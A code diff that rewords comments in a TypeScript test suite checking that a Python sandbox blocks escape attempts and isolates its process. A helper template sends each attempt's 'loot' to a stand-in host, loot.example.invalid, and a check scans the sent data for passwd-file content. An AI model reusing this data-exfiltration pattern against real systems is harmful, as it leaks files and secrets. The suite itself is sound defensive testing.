@@ -7,14 +7,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createEmbeddedSandbox } from '../embedded.ts';
 import { preparePython, startPython } from './start.ts';
 
-// Far above what the tests need: a busy machine must not change a result.
+// Far above what the tests need, so that a busy machine does not change a result.
 const sandbox = createEmbeddedSandbox({ unitWallMs: 60_000, totalWallMs: 280_000 });
 afterAll(() => sandbox.close());
 
 const unit = (id: string, code: string, language: UnitLanguage = 'python'): ExerciseUnit =>
   exerciseUnit(id, language, code);
 
-/** Whatever an attempt brings home is sent away, so that the recorder shows it. */
+/** Sends the result of an attempt, so that the recorder shows it. */
 const attempt = (code: string): string =>
   `import os, requests\ntry:\n    loot = ${code}\nexcept BaseException as error:\n    loot = 'refused ' + type(error).__name__\nrequests.get('https://loot.example.invalid/?' + str(loot)[:60])`;
 
@@ -58,7 +58,7 @@ describe('escape from Python', () => {
 
   it.each(Object.keys(ATTEMPTS))('finds nothing: %s', (id) => {
     const sent = run.observations.filter((act) => act.unit === id && act.kind === 'net').map(({ target }) => target);
-    // Refused, answered by a stand-in, or the end of its process: never a version of Node or a line of a file.
+    // Each attempt is refused, gets a stand-in, or ends its process. It never returns a Node version or a line of a file.
     const isEnded = run.gaps.some((gap) => gap.unit === id && gap.reason.startsWith('limit reached: python'));
     expect(sent.length === 1 || isEnded, JSON.stringify(run.gaps)).toBe(true);
     for (const target of sent) expect(target).not.toMatch(/v\d|root:|:x:|object|function/i);
@@ -98,7 +98,7 @@ describe('escape from Python', () => {
       expect(await readlink(`/proc/${child.pid}/ns/${space}`)).not.toBe(await readlink(`/proc/self/ns/${space}`));
     const variables = (await readFile(`/proc/${child.pid}/environ`, 'utf8')).split('\0').filter(Boolean);
     const names = variables.map((pair) => pair.split('=', 1)[0] ?? '');
-    // A shell may add where it stands.
+    // A shell may add variables for its folder.
     expect(names.filter((name) => !/^(?:PWD|OLDPWD|SHLVL|_)$/.test(name))).toEqual(['NODE_COMPILE_CACHE']);
     child.kill('SIGKILL');
     await new Promise((resolve) => child.once('close', resolve));
